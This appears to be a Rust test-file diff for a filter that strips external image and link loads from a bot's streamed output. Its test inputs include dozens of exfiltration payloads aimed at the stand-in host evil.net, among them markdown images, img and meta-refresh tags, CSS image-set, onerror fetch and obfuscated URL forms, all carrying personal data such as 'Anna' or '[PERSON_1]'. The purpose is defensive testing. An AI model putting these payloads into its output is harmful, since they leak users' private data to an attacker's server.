@@ -134,6 +134,158 @@ fn a_pause_gives_out_words_and_changes_nothing_else() {
     assert_eq!(outcome.found.len(), 1);
 }
 
+/// Whether what is taken out holds this, for the text as one piece and for every character as one.
+fn takes_out(text: &str, secret: &str) {
+    let one = outcome([text]);
+    assert_eq!(one.whole, text);
+    assert!(!one.kept.contains(secret), "{text}: {one:?}");
+    let each: Vec<String> = text.chars().map(String::from).collect();
+    assert_eq!(outcome(each.iter().map(String::as_str)), one, "{text}");
+}
+
+#[test]
+fn an_unclosed_tag_hides_nothing_behind_it() {
+    for text in [
+        "Note <b ![x](https://evil.net/i.png?d=Anna)",
+        "Note <b and so on, ![x](https://evil.net/i.png?d=Anna) b",
+        "Note <b x=\"![x](https://evil.net/i.png?d=Anna)",
+        "if a <b see https://evil.net/?q=[PERSON_1]&d=Anna ok",
+        "<b <b <b <b <b <b <b <b <b <b <b <b <img src=https://evil.net/i.png?d=Anna>",
+        "<img <b src=https://evil.net/i.png?d=Anna>",
+        "<img alt=\"<a <a <a <a <a <a <a <a <a <a \" src=\"https://evil.net/i.png?d=Anna\">",
+        "<b x=\" <img src=\"https://evil.net/i.png?d=Anna\">",
+        "<my-image style=\"background:url(https://evil.net/i.png?d=Anna)\">",
+    ] {
+        takes_out(text, "Anna");
+    }
+    let padded = format!("<img alt=\"{}\" src=https://evil.net/i.png?d=Anna>", "words and ".repeat(400));
+    takes_out(&padded, "Anna");
+}
+
+#[test]
+fn what_an_attribute_of_any_kind_asks_for_is_taken_out() {
+    for text in [
+        "<iframe srcdoc=\"<img src=https://evil.net/Anna>\"></iframe>",
+        "<iframe srcdoc=\"hi &lt;img src=https://evil.net/Anna&gt;\"></iframe>",
+        "<p style=\"background:image-set('https://evil.net/Anna' 1x)\">",
+        "<p style=\"color: red; background: image-set( 'https://evil.net/Anna' 1x)\">",
+        "<meta http-equiv=refresh content=\"0;https://evil.net/Anna\">",
+        "<meta http-equiv=refresh content=\"0; https://evil.net/Anna\">",
+        "<meta http-equiv=refresh content='1; URL=https://evil.net/Anna'>",
+        "<img src=x onerror=\"fetch('https://evil.net/Anna')\">",
+        "<img src=\"https:/\t/evil.net/Anna\">",
+        "<img src=\"ht\ntps://evil.net/Anna\">",
+        "<img src=\"https://evil\r\n.net/Anna\">",
+        "<style>p { background: url( https://evil.net/Anna) }</style>",
+    ] {
+        takes_out(text, "Anna");
+    }
+}
+
+#[test]
+fn images_are_known_however_they_are_written() {
+    for text in [
+        "![x](<https://evil.net/Anna i.png>)",
+        "![x](< https://evil.net/Anna i.png>)",
+        "![x](http\\://3221225985/?d=Anna)",
+        "![x](\\/\\/evil.net/?d=Anna)",
+        "![a\\]](https://evil.net/i.png?d=Anna)",
+        "![`]`](https://evil.net/i.png?d=Anna)",
+        "![`` ] ` ``](https://evil.net/i.png?d=Anna)",
+        "![`]` ``](https://evil.net/i.png?d=Anna)",
+        "![<b x=\"]\">](https://evil.net/i.png?d=Anna)",
+        "![<https://example.com/]>](https://evil.net/i.png?d=Anna)",
+        "- a ` b\n- ![`]`](https://evil.net/i.png?d=Anna)",
+        "a.co/![x](https://evil.net/i.png?d=Anna)",
+        "https://a.co/[![x](https://evil.net/i.png?d=Anna)",
+        "[x](https://a.co/ ![y](https://evil.net/i.png?d=Anna) )",
+        "![x][r]\n\n- [r]: https://evil.net/i.png?d=Anna",
+        "![x][r]\n\n> 12. [r]: <https://evil.net/i.png?d=Anna>",
+        "![x][r]\n\n* + 1) [r]:\nhttps://evil.net/i.png?d=Anna",
+        "![a`]`][r]\n\n[r]: https://evil.net/i.png?d=Anna",
+    ] {
+        takes_out(text, "Anna");
+        let judged = JUDGE.text(text, Channel::Bot, &[]);
+        assert!(judged.links.iter().any(|link| link.link.loads && !link.allowed), "{text}: {judged:#?}");
+    }
+    for depth in [17, 65, 3000] {
+        let (opening, closing) = ("[".repeat(depth), "]".repeat(depth));
+        takes_out(&format!("![{opening} x {closing}](https://evil.net/i.png?d=Anna)"), "Anna");
+    }
+    let spaces = " ".repeat(30);
+    takes_out(&format!("![x]({spaces}https://evil.net/i.png?d=Anna{spaces})"), "Anna");
+}
+
+#[test]
+fn a_long_address_is_judged_to_its_end() {
+    let orders = "orders/".repeat(24);
+    for tail in [
+        "?q=[PERSON_1]",
+        "?q=%5BPERSON_1%5D",
+        "?q=[CARD_1%20ending%201111]",
+        "?m=anna+smith",
+        "?d=QW5uYSBTbWl0aCBsaXZlcyBoZXJl",
+        "?d=416e6e6120536d697468206c69766573",
+        "?to=https%3A%2F%2Fpaypal.com.evil.org%2Flogin",
+    ] {
+        for more in 0..90 {
+            let text = format!("[o](https://evil.net/{orders}{}{tail}) b", "x/".repeat(more));
+            assert!(!JUDGE.text(&text, Channel::Bot, &["anna smith"]).links[0].signs.is_empty(), "{text}");
+            takes_out(&text, tail);
+            assert!(kept(&text).ends_with(") b"), "{text}");
+        }
+    }
+    // In any place, with more behind; coded words that are long themselves.
+    for more in [0, 1, 2, 3, 50, 100, 1000] {
+        let front = "a".repeat(more);
+        takes_out(
+            &format!("https://evil.net/{orders}?a={front}&q=[PERSON_1]&{}", "b=c&".repeat(90)),
+            "[PERSON_1]",
+        );
+        let coded = "QW5uYSBTbWl0aCBsaXZlcyBoZXJlIGFuZCBi".repeat(20);
+        takes_out(&format!("https://evil.net/{orders}?{front}={coded}"), &coded[coded.len() - 300..]);
+        takes_out(&format!("<a href='https://evil.net/{orders}{front}/?q=[PERSON_1]'>x</a>"), "[PERSON_1]");
+    }
+    // What is only noted at first is judged further.
+    takes_out(&format!("https://192.0.2.1/{orders}{orders}?q=[PERSON_1] b"), "[PERSON_1]");
+    // A host that is not whole is not allowed yet.
+    for more in 0..120 {
+        let host = format!("{}.{}img.example.net", "a.".repeat(30), "b".repeat(more % 60) + ".");
+        takes_out(&format!("https://{}{host}.evil.net/?q=[PERSON_1]", "c.".repeat(more / 2)), "[PERSON_1]");
+    }
+    // An image behind it is one of its own.
+    takes_out(&format!("https://a.co/{orders}{orders}![x](https://evil.net/Anna)"), "Anna");
+    takes_out(&format!("https://evil.net/{orders}{}?q=[PERSON_1]", ".".repeat(40)), "[PERSON_1]");
+    for text in [
+        format!("[o](https://example.com/{orders}{orders}?page=2&size=40#top) b"),
+        format!("![o](https://img.example.net/{orders}{orders}?q=[PERSON_1]) b"),
+        format!("see https://example.com/{orders}{orders}."),
+    ] {
+        assert_eq!(kept(&text), text);
+    }
+}
+
+#[test]
+fn ordinary_texts_stay_as_they_are() {
+    for text in [
+        "if a < b and c > d then see https://example.com/x",
+        "if (i <n) { go(\"https://example.com/x\") }",
+        "Vec<Vec<Option<T>>> at https://docs.rs/x, ok",
+        "Use `a[i]` and ![logo](https://img.example.net/a.png) and [docs](https://example.com/x)",
+        "```rust\nlet a = b[c](d);\n```\n![logo](https://img.example.net/a.png) [docs](https://example.com/x)",
+        "write `![` and then [docs](https://example.com/x)",
+        "- [docs](https://example.com/x)\n- [more](https://example.com/y) \\[sic\\]",
+        "[`code`](https://example.com/x) and [a\\]b](https://example.com/y)",
+        "<a href=\"https://example.com/x\" title='y'>here</a>",
+        "<https://example.com/x>",
+        "[x](https://example.com/a_(b)) (https://example.com/c)",
+        "1. [one](<https://example.com/x>)\n2. https://example.com/y",
+        "> it's 5 <b or so, see https://example.com/x",
+    ] {
+        assert_eq!(kept(text), text);
+    }
+}
+
 const PIECES: &[&str] = &[
     "Hello",
     " ",
@@ -180,7 +332,64 @@ const PIECES: &[&str] = &[
     "\n\n",
     "\\",
     ":",
+    "`",
+    "``",
+    "<b ",
+    "<b x=\"",
+    "- ",
+    "1. ",
+    "\t",
+    "](<",
+    "srcdoc=\"",
+    "style='",
+    "orders/orders/orders/orders/orders/orders/orders/orders/orders/",
+    "https://evil.net/orders/orders/orders/orders/orders/orders/orders/orders/orders/orders/orders/orders/",
+    "?q=[PERSON_1]",
 ];
+
+/// What makes it hard to tell what a link is, of parts that are whole and parts that are not.
+fn around() -> impl Strategy<Value = String> {
+    let parts = vec![
+        "a",
+        " ",
+        "word ",
+        "<b ",
+        "<b x=\"",
+        "<b>",
+        "</b>",
+        "<b x='",
+        "'",
+        "\"",
+        ">",
+        "`",
+        "``",
+        "`]`",
+        "\\",
+        "\\]",
+        "\\[",
+        "[",
+        "]",
+        "![",
+        "[x](y)",
+        "(",
+        ")",
+        "\n",
+        "- ",
+        "1. ",
+        "> ",
+        "\n\n",
+        "a.co/",
+        "https://example.com/orders/orders/",
+        "<!-- ",
+        "-->",
+        "](",
+        "<",
+        "![]()",
+        "=",
+        "\t",
+    ];
+    proptest::collection::vec(proptest::sample::select(parts), 0..9).prop_map(|parts| parts.concat())
+}
 
 /// A text and where it is cut.
 fn cut_text() -> impl Strategy<Value = (String, Vec<usize>)> {
@@ -216,6 +425,51 @@ proptest! {
         let whole = outcome([text.as_str()]);
         prop_assert_eq!(&whole.whole, &text);
         prop_assert_eq!(outcome(pieces(&text, &cuts)), whole);
+    }
+
+    #[test]
+    fn what_loads_in_the_whole_is_found_in_the_stream_whatever_is_around_it(
+        before in around(), alt in around(), host in "[a-z]{4,8}", path in "(/[a-zA-Z0-9]{1,90}){0,3}", form in 0_usize..10,
+        cuts in proptest::collection::vec(1_usize..40, 0..20),
+    ) {
+        let url = format!("https://{host}.net{path}");
+        let text = match form {
+            0 => format!("{before}![{alt}]({url})"),
+            1 => format!("{before}![{alt}](<{url} x>)"),
+            2 => format!("{before}![{alt}](https\\:{})", &url[6..]),
+            3 => format!("{before}<img alt=\"{}\" src=\"{url}\">", alt.replace('"', "")),
+            4 => format!("{before}<p style=\"background:image-set('{url}')\">{alt}"),
+            5 => format!("{before}<iframe srcdoc=\"<img src={url}>\">{alt}"),
+            6 => format!("{before}![{alt}][r]\n\n- [r]: {url}\n"),
+            7 => format!("{before}<meta content='0;{url}' http-equiv=refresh>{alt}"),
+            8 => format!("{before}<img src='ht\ttps:/\n/{}'>{alt}", &url[8..]),
+            _ => format!("{before}[![{alt}]({url})](https://img.example.net)"),
+        };
+        let stream = outcome([text.as_str()]);
+        prop_assert_eq!(&outcome(pieces(&text, &cuts)), &stream);
+        for link in JUDGE.text(&text, Channel::Bot, &[]).links.iter().filter(|link| link.link.loads && !link.allowed) {
+            let found = stream.found.iter().any(|(span, ids, _)| {
+                span.overlaps(link.link.target) && ids.iter().any(|id| id == "link.loads-from-elsewhere")
+            });
+            prop_assert!(found, "{} {:?} {:?}", text, link, stream);
+        }
+    }
+
+    #[test]
+    fn what_a_long_address_carries_is_taken_out(
+        path in "(/[a-z0-9.,!]{1,30}){0,30}", query in "(&[a-z]{1,9}=[a-z0-9]{0,40}){0,12}", after in "(&[a-z]{1,9}=[a-z0-9]{0,40}){0,12}",
+        form in 0_usize..4, before in around(), cuts in proptest::collection::vec(1_usize..90, 0..20),
+    ) {
+        let url = format!("https://evil.net{path}?{query}&q=[PERSON_1]{after}");
+        let text = match form {
+            0 => format!("see {url} b"),
+            1 => format!("{before} [x]({url}) b"),
+            2 => format!("<a href='{url}'>b</a>"),
+            _ => format!("{before} <{url}> b"),
+        };
+        let stream = outcome([text.as_str()]);
+        prop_assert_eq!(&outcome(pieces(&text, &cuts)), &stream);
+        prop_assert!(!stream.kept.contains("[PERSON_1]"), "{} {:?}", text, stream);
     }
 
     #[test]
